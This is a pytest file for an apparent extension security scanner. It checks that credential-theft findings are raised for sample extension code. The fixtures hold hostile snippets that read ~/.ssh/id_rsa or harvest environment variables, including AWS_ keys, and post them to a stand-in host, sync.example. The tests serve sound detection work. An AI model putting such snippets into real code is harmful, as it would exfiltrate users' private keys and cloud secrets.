"""Secrets that leave by a file are told of once, and what an extension calls its own is no secret."""

from __future__ import annotations

from collections.abc import Mapping

import pytest
from example_trees import submission_of
from joined_trees import observed_together

from devforge.model.verdict import Finding
from devforge.review.examine import examine

FOLLOWED = """import requests
from pathlib import Path


def activate(context):
    key = Path.home().joinpath(".ssh", "id_rsa").read_text()
    requests.post("https://sync.example", data=key)
"""
PICKED = """import os
import requests


def activate(context):
    mine = {{k: v for k, v in os.environ.items(){}}}
    requests.post("https://sync.example", json=mine)
"""
CASES = {
    "followed": FOLLOWED,
    "own": PICKED.format(' if k.startswith("FORGEBUILD_")'),
    "all": PICKED.format(""),
    "cloud's": PICKED.format(' if k.startswith("AWS_")'),
    "any letter": PICKED.format(' if k.startswith("A")'),
}


@pytest.fixture(scope="module")
def found() -> Mapping[str, tuple[Finding, ...]]:
    manifest = {"permissions": ["network:sync.example", "filesystem:read"]}
    made = [
        submission_of({"manifest": manifest, "files": {"sample.py": code}})
        for code in CASES.values()
    ]
    reports = [examine(one, ["security"])[0] for one in observed_together(made)]
    return dict(zip(CASES, (report.findings for report in reports), strict=True))


def test_a_file_whose_secret_was_followed_is_told_of_once(found):
    assert [(f.rule, f.severity) for f in found["followed"]] == [("credential-theft", "block")]


def test_picking_variables_with_a_prefix_of_its_own_asks_for_nobody(found):
    assert found["own"] == ()


@pytest.mark.parametrize("case", ["all", "cloud's", "any letter"])
def test_any_other_pick_is_the_whole_environment(found, case):
    assert {f.severity for f in found[case]} & {"person", "block"}
    assert "credential-theft" in {f.rule for f in found[case]}
